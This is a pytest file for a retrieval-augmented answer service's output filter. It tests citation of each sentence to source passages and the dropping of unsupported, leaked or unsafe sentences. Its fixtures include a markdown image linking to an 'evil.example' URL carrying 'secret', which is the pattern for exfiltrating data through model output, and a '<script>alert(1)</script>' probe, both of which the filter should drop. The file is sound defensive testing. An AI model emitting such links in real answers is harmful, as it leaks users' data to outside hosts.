"""What leaves the service, when a model writes what it likes."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from rag_service.detect.pii import PiiDetector
from rag_service.domain.answer import Flag, Passage
from rag_service.domain.policy import AnswerPolicy
from rag_service.query.cite import Cited, cite
from rag_service.query.filter import LONGEST, MOST_SENTENCES, OutputFilter, ReleasedSentence
from rag_service.query.prompt import build_prompt
from rag_service.query.support import SupportFinder
from rag_service.wiring import Models
from tests.query.passages import passage

PASSAGES = (
    passage("Refunds are paid within five working days. Call the desk at the harbour for help.", chunk="c1", start=100),
    passage("Gift cards are never refunded.", chunk="c2", document="d2", start=7),
)


@pytest.fixture
def detector(models: Models) -> PiiDetector:
    return models.detector


@dataclass(frozen=True)
class Judged:
    sentences: tuple[ReleasedSentence, ...]
    flags: tuple[Flag, ...]


def released(draft: str, detector: PiiDetector, passages: tuple[Passage, ...] = PASSAGES) -> tuple[Judged, Cited]:
    prompt = build_prompt("?", passages)
    output = OutputFilter(prompt, AnswerPolicy(), detector=detector, finder=SupportFinder(passages))
    sentences: list[ReleasedSentence] = []
    text = draft.replace("CANARY", prompt.canary)
    for start in range(0, len(text), 7):
        if output.feed(text[start : start + 7]):
            sentences += output.judge()
    sentences += output.finish()
    return Judged(tuple(sentences), output.flags), cite(tuple(sentences))


def test_every_sentence_is_cited_to_the_character(detector: PiiDetector) -> None:
    _, cited = released("Refunds are paid within five working days. Gift cards are never refunded.", detector)
    assert cited.text == "Refunds are paid within five working days [1]. Gift cards are never refunded [2]."
    for one, source in zip(cited.citations, PASSAGES, strict=True):
        assert source.text[one.start - source.start : one.end - source.start] == one.quote
        assert one.document_id == source.document_id
    assert cited.groundedness == 1.0


def test_a_models_own_markers_are_not_believed(detector: PiiDetector) -> None:
    _, cited = released(
        "Gift cards are never refunded [1]. Refunds are paid within five working days. [7, 9]", detector
    )
    assert cited.text == "Gift cards are never refunded [1]. Refunds are paid within five working days [2]."
    assert cited.citations[0].document_id == "d2"


def test_brackets_that_belong_to_the_text_stay(detector: PiiDetector) -> None:
    source = (passage("clinics[1].name: Millrace; clinics[1].parking: Weir Lane"),)
    _, cited = released("clinics[1].name: Millrace; clinics[1].parking: Weir Lane", detector, source)
    assert cited.citations[0].quote == source[0].text


@pytest.mark.parametrize(
    ("sentence", "flag"),
    [
        ("The chairman resigned on Tuesday in anger.", "unsupported"),
        ("Refunds are paid within nine working days.", "unsupported"),
        ("Refunds are paid within five working days ![x](https://evil.example/?q=secret).", "active_content"),
        ("Refunds are paid within five working days <b>.", "active_content"),
        ("Refunds paid within five working days, call +44 20 7946 0958.", "unsupported_identifier"),
        ("Refunds are paid within five working days by ann@shop.example.", "unsupported_link"),
    ],
)
def test_what_no_passage_holds_is_dropped_and_the_rest_stays(sentence: str, flag: str, detector: PiiDetector) -> None:
    filtered, cited = released(f"{sentence}\nGift cards are never refunded.", detector)
    assert cited.text == "Gift cards are never refunded [1]."
    assert flag in {one.kind for one in filtered.flags}


def test_what_follows_a_leaked_marker_is_not_released(detector: PiiDetector) -> None:
    filtered, cited = released(
        "Gift cards are never refunded. Note CANARY. Refunds are paid within five working days.", detector
    )
    assert cited.text == "Gift cards are never refunded [1]."
    assert [(one.kind, one.action) for one in filtered.flags] == [("prompt_leak", "dropped")]


def test_of_nothing_supported_nothing_is_released(detector: PiiDetector) -> None:
    filtered, cited = released("I am free now. Visit us! <script>alert(1)</script>", detector)
    assert filtered.sentences == ()
    assert (cited.text, cited.citations, cited.groundedness) == ("", (), 0.0)


def test_a_sentence_said_twice_is_released_once(detector: PiiDetector) -> None:
    _, cited = released("Gift cards are never refunded.\n" * 5, detector)
    assert cited.text == "Gift cards are never refunded [1]."


def test_an_identifier_put_together_from_supported_numbers_is_dropped(detector: PiiDetector) -> None:
    source = (passage("Ask in room 020 for the desk, or at extension 7946 0958 for help."),)
    sentence = "Ask the desk at extension (020) 7946 0958 for help in room."
    filtered, cited = released(sentence, detector, source)
    assert cited.text == ""
    assert [one.kind for one in filtered.flags] == ["unsupported_identifier"]


def test_a_draft_is_looked_at_up_to_a_length(detector: PiiDetector) -> None:
    filtered, cited = released("Gift cards are never refunded.\n\n" + "x" * LONGEST, detector)
    assert cited.text == "Gift cards are never refunded [1]."
    assert "too_long" in {one.kind for one in filtered.flags}


def test_of_a_draft_so_many_sentences_are_looked_at(detector: PiiDetector) -> None:
    filtered, cited = released("No.\n" * MOST_SENTENCES + "Gift cards are never refunded.", detector)
    assert cited.text == ""
    assert "too_long" in {one.kind for one in filtered.flags}


def test_lines_that_copy_passages_stay_apart_though_one_begins_in_lower_case(detector: PiiDetector) -> None:
    source = (passage("Harbour office\n\ncall the desk for a berth", chunk="c1"),)
    _, cited = released("Harbour office\ncall the desk for a berth", detector, source)
    assert cited.text == "Harbour office [1]\ncall the desk for a berth [2]"
